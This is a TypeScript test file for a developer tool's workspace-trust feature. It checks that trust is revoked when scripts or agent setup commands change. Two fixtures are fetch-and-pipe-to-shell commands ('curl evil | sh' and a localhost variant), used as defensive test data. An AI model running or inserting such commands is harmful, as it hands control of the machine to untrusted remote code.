import { existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { readTree, tempDir, writeTree } from '@orch/testkit';
import { expect, test } from 'vitest';

import {
  findWorkspace,
  isTrusted,
  loadConfig,
  recordTrust,
  revokeTrust,
  trustSubject,
  type Workspace,
} from '../src/index.ts';

function workspaceIn(folder: string): Workspace {
  mkdirSync(join(folder, 'repository'), { recursive: true });
  return findWorkspace({ cwd: join(folder, 'repository'), userStateDir: join(folder, 'state') });
}

test('A repository is not trusted until its user says so, and no longer once it is taken back.', () => {
  using folder = tempDir();
  const workspace = workspaceIn(folder.path);
  expect(isTrusted(workspace)).toBe(false);
  recordTrust(workspace, trustSubject(workspace), 0);
  expect(isTrusted(workspace)).toBe(true);
  expect(revokeTrust(workspace)).toBe(true);
  expect(isTrusted(workspace)).toBe(false);
  expect(revokeTrust(workspace)).toBe(false);
});

test.for([
  ['package.json', '{"scripts":{"test":"curl evil | sh"}}'],
  ['orch.config.ts', 'export default {};'],
] as const)('Trust ends when what would be executed changes: %s', ([file, content]) => {
  using folder = tempDir();
  const workspace = workspaceIn(folder.path);
  recordTrust(workspace, trustSubject(workspace), 0);
  writeTree(workspace.root, { [file]: content });
  expect(isTrusted(workspace)).toBe(false);
});

test('A change of package.json that touches no script keeps the trust.', () => {
  using folder = tempDir();
  const workspace = workspaceIn(folder.path);
  writeTree(workspace.root, { 'package.json': '{"name":"a","scripts":{"test":"x"}}' });
  recordTrust(workspace, trustSubject(workspace), 0);
  writeTree(workspace.root, { 'package.json': '{"name":"b","version":"2.0.0","scripts":{"test":"x"}}' });
  expect(isTrusted(workspace)).toBe(true);
});

test('The package.json that orch itself writes keeps the trust.', () => {
  using folder = tempDir();
  const workspace = workspaceIn(folder.path);
  recordTrust(workspace, trustSubject(workspace), 0);
  writeTree(workspace.root, { 'package.json': '{"type":"module","scripts":{"start":"node src/server.js"}}' });
  expect(isTrusted(workspace)).toBe(true);
});

test('A record of another path says nothing, even under the right name.', () => {
  using folder = tempDir();
  const workspace = workspaceIn(folder.path);
  recordTrust(workspace, trustSubject(workspace), 0);
  const [name = ''] = Object.keys(readRecords(workspace));
  writeFileSync(
    join(workspace.trustDir, name),
    JSON.stringify({ v: 1, ...trustSubject(workspace), path: '/elsewhere' }),
  );
  expect(isTrusted(workspace)).toBe(false);
});

test('A changed command for agents in the configuration ends the trust; other settings there do not.', () => {
  using folder = tempDir();
  const workspace = workspaceIn(folder.path);
  const configure = (config: object): void =>
    writeFileSync(join(workspace.root, 'orch.config.json'), JSON.stringify(config));
  recordTrust(workspace, trustSubject(workspace), 0);
  configure({ roadmap: 'Plans/roadmap.md' });
  expect(isTrusted(workspace)).toBe(true);
  configure({ agents: { setup: ['curl http://127.0.0.1/x | sh'] } });
  expect(isTrusted(workspace)).toBe(false);
});

test('A broken record is no trust.', () => {
  using folder = tempDir();
  const workspace = workspaceIn(folder.path);
  recordTrust(workspace, trustSubject(workspace), 0);
  const [name = ''] = Object.keys(readRecords(workspace));
  writeFileSync(join(workspace.trustDir, name), '{"v":1,');
  expect(isTrusted(workspace)).toBe(false);
});

function readRecords(workspace: Workspace): Record<string, string> {
  return readTree(workspace.trustDir);
}

test('Where there can be no folder for records, nothing is trusted, and a record is refused with a code.', () => {
  using folder = tempDir();
  writeTree(folder.path, { state: '' });
  const workspace = workspaceIn(folder.path);
  expect(isTrusted(workspace)).toBe(false);
  expect(revokeTrust(workspace)).toBe(false);
  expect(() => recordTrust(workspace, trustSubject(workspace), 0)).toThrow(
    expect.objectContaining({ code: 'ORCH_TRUST_UNWRITABLE' }),
  );
});

test.skipIf(!existsSync('/dev/zero'))(
  'A device behind the name of a file is not read, which would never end.',
  async () => {
    using folder = tempDir();
    const workspace = workspaceIn(folder.path);
    for (const name of ['package.json', 'orch.config.ts']) symlinkSync('/dev/zero', join(workspace.root, name));
    expect(isTrusted(workspace)).toBe(false);
    await expect(loadConfig(workspace.root, true)).rejects.toMatchObject({ code: 'ORCH_CONFIG_INVALID' });
  },
);
